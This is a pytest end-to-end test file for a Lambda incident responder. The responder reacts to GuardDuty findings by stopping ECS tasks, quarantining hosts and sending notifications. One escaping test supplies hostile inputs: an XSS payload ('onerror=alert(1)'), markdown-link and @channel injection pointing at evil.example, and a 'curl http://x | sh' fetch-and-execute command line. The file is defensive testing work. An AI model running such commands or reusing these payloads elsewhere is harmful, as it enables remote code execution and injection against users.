"""guardduty-responder end to end: the real binary (target/debug/guardduty-responder)
under the Lambda Runtime API emulator, against moto. Each test seeds its own cluster and
notification topic; notifications are read from an SQS queue subscribed to the topic.
Findings are built from the AWS-shaped fixtures in tests/fixtures/guardduty-*.json.
"""

from __future__ import annotations

import pytest

from harness import fleet as fl
from harness.guardduty_responder_helpers import (
    FARGATE_FINDING,
    MEDIUM_FINDING,
    QUARANTINE_TAG,
    STOP_REASON_PREFIX,
    container_instance_status,
    finding_event,
    group_of,
    instance_state,
    instance_tags,
    responder_env,
    service_task_on,
    task_of,
)
from harness.runtime_api import LambdaProcess
from harness.notifications import Inbox


@pytest.fixture
def binary(function_binary):
    return function_binary("guardduty-responder")


@pytest.fixture
def inbox(emulator):
    return Inbox.create(emulator, prefix="gd")


@pytest.fixture
def run(emulator, binary, inbox):
    """run(event, **env) -> InvokeResult: one invocation of a fresh process."""
    procs: list[LambdaProcess] = []

    def invoke(event, **env):
        fn = LambdaProcess(binary, env=responder_env(emulator, inbox.topic_arn, **env))
        procs.append(fn)
        return fn.invoke(event)

    yield invoke
    for p in procs:
        p.stop()


@pytest.fixture
def fleet(make_fleet):
    return make_fleet(instances=2, services=["web"], tasks_per_instance=2)


def one(inbox):
    notes = inbox.read()
    assert len(notes) == 1, [n.title for n in notes]
    return notes[0]


def running(fleet, task_arn) -> bool:
    return task_of(fleet, task_arn)["lastStatus"] == "RUNNING"


def test_high_finding_stops_the_task_and_quarantines_its_host(run, fleet, inbox):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    desired = fleet.group()["DesiredCapacity"]
    event = finding_event(fleet, task)

    result = run(event)

    assert result.ok, result.error
    stopped = task_of(fleet, task)
    assert stopped["lastStatus"] == "STOPPED"
    assert stopped["stoppedReason"].startswith(STOP_REASON_PREFIX)
    assert event["detail"]["id"] in stopped["stoppedReason"]
    iid = host.ec2_instance_id
    assert container_instance_status(fleet, host) == "DRAINING"
    assert instance_tags(fleet, iid)[QUARANTINE_TAG] == event["detail"]["id"]
    assert group_of(fleet, iid) is None, "detached from its group"
    assert instance_state(fleet, iid) == "running", "kept for forensics"
    group = fleet.group()
    assert group["DesiredCapacity"] == desired, "the group replaces the host"
    assert iid not in [i["InstanceId"] for i in group["Instances"]]
    note = one(inbox)
    assert note.action == "contain" and note.outcome == "done"
    assert "[HIGH]" in note.subject
    assert note.title.startswith("High Execution:Runtime/ReverseShell in")
    outcomes = {a["action"]: a["outcome"] for a in note.details["actions"]}
    assert outcomes == {
        "stop-task": "done",
        "drain-host": "done",
        "tag-host": "done",
        "protect-host": "done",
        "detach-host": "done",
    }
    assert note.details["evidence"]["task"]["arn"] == task
    assert note.details["evidence"]["containers"][0]["image"]
    assert note.details["finding"]["id"] == event["detail"]["id"]


def test_low_severity_finding_is_only_notified(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    result = run(finding_event(fleet, task, template=MEDIUM_FINDING))
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    note = one(inbox)
    assert note.outcome == "skipped"
    assert "below MIN_SEVERITY" in note.title


def test_unmanaged_cluster_is_untouched(run, make_fleet, inbox):
    fleet = make_fleet(instances=1, services=["web"], managed=False)
    task = service_task_on(fleet, fleet.instances[0])
    result = run(finding_event(fleet, task, severity=9.8))
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    assert group_of(fleet, fleet.instances[0].ec2_instance_id) == fleet.asg_name
    note = one(inbox)
    assert note.outcome == "skipped" and "not opted in" in note.title


def test_sample_finding_is_not_acted_on(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    result = run(finding_event(fleet, task, sample=True))
    assert result.ok, result.error
    assert running(fleet, task)
    note = one(inbox)
    assert note.outcome == "skipped" and "sample finding" in note.title


def test_duplicate_finding_is_already_contained_and_acts_once(run, fleet, inbox):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    event = finding_event(fleet, task)
    assert run(event).ok
    first = task_of(fleet, task)["stoppedAt"]
    inbox.read()

    again = finding_event(fleet, task, finding_id=event["detail"]["id"], count=4)
    result = run(again)

    assert result.ok, result.error
    assert task_of(fleet, task)["stoppedAt"] == first
    note = one(inbox)
    assert note.outcome == "already_done"
    assert "already contained" in note.title
    assert "[HIGH]" not in note.subject


def test_task_stopped_by_someone_else_is_already_contained(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    fl.stop_tasks(fleet, task_arns=[task], reason="stopped by the on-call engineer")
    result = run(finding_event(fleet, task), QUARANTINE_HOST="false")
    assert result.ok, result.error
    note = one(inbox)
    assert note.outcome == "already_done" and "already contained" in note.title
    assert "on-call engineer" in note.description


def test_task_not_found_is_reported_and_nothing_changes(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    event = finding_event(fleet, task)
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["arn"] = (
        task.rsplit("/", 1)[0] + "/00000000000000000000000000000000"
    )
    result = run(event)
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, fleet.instances[0]) == "ACTIVE"
    note = one(inbox)
    assert note.outcome == "skipped" and "task not found" in note.title


def test_fargate_task_is_stopped_and_no_host_is_touched(run, fleet, inbox):
    ecs = fleet.ecs
    family = fleet.task_definitions["web"]
    task = ecs.run_task(cluster=fleet.cluster_name, taskDefinition=family, launchType="FARGATE", count=1)[
        "tasks"
    ][0]["taskArn"]
    event = finding_event(fleet, task, template=FARGATE_FINDING, severity=8.0)
    event["detail"]["resource"].pop("instanceDetails", None)
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["launchType"] = "FARGATE"
    result = run(event)
    assert result.ok, result.error
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    for inst in fleet.instances:
        assert container_instance_status(fleet, inst) == "ACTIVE"
        assert group_of(fleet, inst.ec2_instance_id) == fleet.asg_name
    note = one(inbox)
    outcomes = {a["action"]: a["outcome"] for a in note.details["actions"]}
    assert outcomes == {"stop-task": "done", "quarantine-host": "skipped"}


def test_breaker_trips_after_max_stops_and_raises_a_critical(run, make_fleet, inbox):
    fleet = make_fleet(instances=2, services=["web"], tasks_per_instance=2)
    tasks = [t["taskArn"] for t in fl.all_tasks(fleet) if fl.service_of(t) == "web"]
    env = {"MAX_STOPS_PER_SERVICE": "2", "QUARANTINE_HOST": "false"}
    for task in tasks[:2]:
        assert run(finding_event(fleet, task), **env).ok
        fl.start_service_tasks(fleet, "web", fleet.instances[0])  # ECS replaces it
    inbox.read()

    result = run(finding_event(fleet, tasks[2]), **env)

    assert result.ok, result.error
    assert running(fleet, tasks[2])
    note = one(inbox)
    assert "[CRITICAL]" in note.subject
    assert "crash-loop breaker" in note.title
    assert note.details["recent_stops"] == 2
    assert note.outcome == "skipped"


def test_health_floor_holds_high_findings_but_not_critical_ones(run, make_fleet, inbox):
    fleet = make_fleet(instances=1, services=["web"], tasks_per_instance=2)
    task = service_task_on(fleet, fleet.instances[0])
    env = {"MIN_HEALTHY_TASKS": "2", "QUARANTINE_HOST": "false"}

    assert run(finding_event(fleet, task, severity=8.0), **env).ok
    assert running(fleet, task)
    note = one(inbox)
    assert "health floor" in note.title and "[HIGH]" in note.subject

    assert run(finding_event(fleet, task, severity=9.4), **env).ok
    assert task_of(fleet, task)["lastStatus"] == "STOPPED"
    note = one(inbox)
    assert "[CRITICAL]" in note.subject
    assert "stopped anyway" in note.description


def test_malicious_runtime_strings_come_out_escaped(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    evil = "sh`](http://evil.example)<img src=x onerror=alert(1)>\n@channel *pwn*"
    result = run(
        finding_event(fleet, task, process_name=evil, command_line="curl http://x | sh # [go](http://evil)"),
        QUARANTINE_HOST="false",
    )
    assert result.ok, result.error
    note = one(inbox)
    for text in (note.description, note.context["details"]):
        assert "<img" not in text.replace("\\<img", "")
        assert "](http" not in text
        assert "@channel" not in text.replace("\\@channel", "")
    assert "\\<img" in note.description


def test_dry_run_changes_nothing_and_notifies_the_plan(run, fleet, inbox):
    host = fleet.instances[0]
    task = service_task_on(fleet, host)
    result = run(finding_event(fleet, task), DRY_RUN="true")
    assert result.ok, result.error
    assert running(fleet, task)
    assert container_instance_status(fleet, host) == "ACTIVE"
    assert group_of(fleet, host.ec2_instance_id) == fleet.asg_name
    assert QUARANTINE_TAG not in instance_tags(fleet, host.ec2_instance_id)
    note = one(inbox)
    assert note.outcome == "planned" and "[dry run]" in note.subject
    assert {a["outcome"] for a in note.details["actions"]} == {"planned"}


def test_malformed_finding_fails_as_a_bad_event_and_changes_nothing(run, fleet, inbox):
    task = service_task_on(fleet, fleet.instances[0])
    event = finding_event(fleet, task)
    del event["detail"]["severity"]
    result = run(event)
    assert not result.ok
    assert result.error["errorType"] == "BadEvent"
    assert running(fleet, task)
    assert inbox.read() == []
